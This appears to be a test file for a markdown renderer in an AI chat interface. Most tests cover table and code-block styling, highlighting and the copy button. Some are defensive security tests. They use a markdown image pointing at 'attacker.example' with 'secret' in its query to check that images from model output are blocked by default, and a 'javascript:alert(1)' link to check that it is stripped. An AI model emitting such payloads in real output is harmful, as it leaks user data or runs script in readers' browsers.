import { render, screen, waitFor, within } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { preloadOnDemand } from '../lazy/on-demand.js';
import { AgentUIProvider } from '../config.js';
import { StreamingMarkdown } from './streaming-markdown.js';
import type { MarkdownOptions } from './markdown-options.js';
import { installFakeIntersection } from '../test-utils/fake-intersection.js';

// The image gate is in the on-demand chunk: load it first, so the assertions see it rather than its stand-in.
beforeAll(() => preloadOnDemand());
// Everything on screen: code blocks near the view are highlighted (jsdom has no layout).
let intersection: ReturnType<typeof installFakeIntersection>;
beforeAll(() => void (intersection = installFakeIntersection()));
afterAll(() => intersection.restore());

const TABLE = '| Plan | Price |\n| --- | ---: |\n| Free | 0 |\n| Pro | 20 |';
const CODE = '```ts\nconst answer: number = 42; // the answer\n```';

function show(text: string, options?: { streaming?: boolean; markdown?: MarkdownOptions; dark?: boolean }) {
  return render(
    <AgentUIProvider markdown={options?.markdown} appearance={{ dark: options?.dark }}>
      <StreamingMarkdown text={text} streaming={options?.streaming} />
    </AgentUIProvider>,
  );
}

describe('markdown styling', () => {
  it('tables get cell borders and a shaded header, block quotes a bar', () => {
    const { container } = show(`${TABLE}\n\n> Quoted advice.`);
    const header = screen.getByRole('columnheader', { name: 'Plan' });
    const cell = screen.getByRole('cell', { name: 'Free' });
    // The kit's stylesheet styles them (computed style; jsdom resolves the antd variables' fallbacks).
    expect(getComputedStyle(header)).toMatchObject({ borderTopWidth: '1px', borderTopStyle: 'solid' });
    expect(getComputedStyle(header).backgroundColor).not.toMatch(/^(|transparent|rgba\(0, 0, 0, 0\))$/);
    expect(getComputedStyle(cell)).toMatchObject({ borderTopWidth: '1px', borderTopStyle: 'solid' });
    // `--:` is the end of the line (logical: mirrored in a right-to-left reply).
    expect(getComputedStyle(screen.getByRole('cell', { name: '20' })).textAlign).toBe('end');
    const quote = container.querySelector('blockquote')!;
    expect(quote).toHaveTextContent('Quoted advice.');
    expect(getComputedStyle(quote)).toMatchObject({ borderInlineStartStyle: 'solid' });
  });

  it('a code block has a shaded box, its language, a copy button that says "Copied", and highlighting once loaded', async () => {
    const user = userEvent.setup();
    const { container } = show(CODE);
    const block = container.querySelector<HTMLElement>('[data-xagent-code-block]')!;
    expect(block).toHaveAttribute('data-xagent-code-block', 'ts');
    expect(within(block).getByText('ts')).toBeInTheDocument();
    expect(getComputedStyle(block).backgroundColor).not.toMatch(/^(|transparent|rgba\(0, 0, 0, 0\))$/);
    // Highlighting arrives with its chunk: coloured spans inside the same <code>.
    await waitFor(() => expect(block.querySelector('code span[style*="color"]')).not.toBeNull());
    expect(within(block).getByText('const')).toHaveStyle({ color: '#b31d28' });
    expect(block.querySelector('code')).toHaveTextContent('const answer: number = 42; // the answer');
    await user.click(within(block).getByRole('button', { name: 'Copy code' }));
    expect(await within(block).findByRole('button', { name: 'Copied' })).toHaveTextContent('Copied');
    expect(await navigator.clipboard.readText()).toBe('const answer: number = 42; // the answer');
  });

  it('dark theme: code colours from the dark palette', async () => {
    const { container } = show(CODE, { dark: true });
    await waitFor(() => expect(container.querySelector('code span[style*="color"]')).not.toBeNull());
    expect(screen.getByText('const')).toHaveStyle({ color: '#ff7b72' });
  });

  it('a finished code block far from the view shows its code plain, and is highlighted when it comes near', async () => {
    intersection.set(false);
    try {
      const { container } = show(CODE);
      const code = () => container.querySelector('[data-xagent-code-block] code')!;
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(code()).toHaveTextContent('const answer: number = 42; // the answer');
      expect(code().querySelector('span')).toBeNull();
      intersection.set(true);
      await waitFor(() => expect(code().querySelector('span[style*="color"]')).not.toBeNull());
      // Scrolled far away again: plain text, the same text.
      intersection.set(false);
      await waitFor(() => expect(code().querySelector('span')).toBeNull());
      expect(code()).toHaveTextContent('const answer: number = 42; // the answer');
    } finally {
      intersection.set(true);
    }
  });

  it('a code block still streaming stays plain text (no highlighting per token)', () => {
    const { container } = show('```ts\nconst a = 1;\n', { streaming: true });
    const code = container.querySelector('[data-xagent-code-block] code')!;
    expect(code).toHaveTextContent('const a = 1;');
    expect(code.querySelector('span')).toBeNull();
  });
});

describe('images in model output', () => {
  const ATTACK = 'Here: ![chart](https://attacker.example/collect?q=secret)';

  it('are not fetched by default: a placeholder names the host, and a click loads the image', async () => {
    const user = userEvent.setup();
    const { container } = show(ATTACK);
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('<img');
    const placeholder = screen.getByRole('button', { name: /Image from attacker\.example/ });
    await user.click(placeholder);
    expect(container.querySelector('img')).toHaveAttribute('src', 'https://attacker.example/collect?q=secret');
  });

  it('load at once from an allowed host, or through the app\'s proxy', () => {
    const allowed = show('![a](https://cdn.example.com/a.png)', { markdown: { images: { allow: ['*.example.com'] } } });
    expect(allowed.container.querySelector('img')).toHaveAttribute('src', 'https://cdn.example.com/a.png');
    allowed.unmount();
    const proxied = show(ATTACK, { markdown: { resolveImageUrl: (url) => `/image-proxy?url=${encodeURIComponent(url)}` } });
    expect(proxied.container.querySelector('img')).toHaveAttribute('src', `/image-proxy?url=${encodeURIComponent('https://attacker.example/collect?q=secret')}`);
  });

  it('a host not on the allow list stays behind its placeholder', () => {
    const { container } = show(ATTACK, { markdown: { images: { allow: ['cdn.example.com'] } } });
    expect(container.querySelector('img')).toBeNull();
  });
});

describe('links', () => {
  it('a link whose URL was stripped shows as plain text, not as a link', () => {
    const { container } = show('[click me](javascript:alert(1)) and [docs](https://example.com/docs)');
    expect(screen.getAllByRole('link')).toHaveLength(1);
    expect(screen.getByRole('link', { name: 'docs' })).toHaveAttribute('rel', 'noopener noreferrer');
    const stripped = container.querySelector<HTMLElement>('[data-xagent-stripped-link]')!;
    expect(stripped.tagName).toBe('SPAN');
    expect(stripped).toHaveTextContent('click me');
    expect(getComputedStyle(stripped).textDecoration).toBe('none');
  });
});
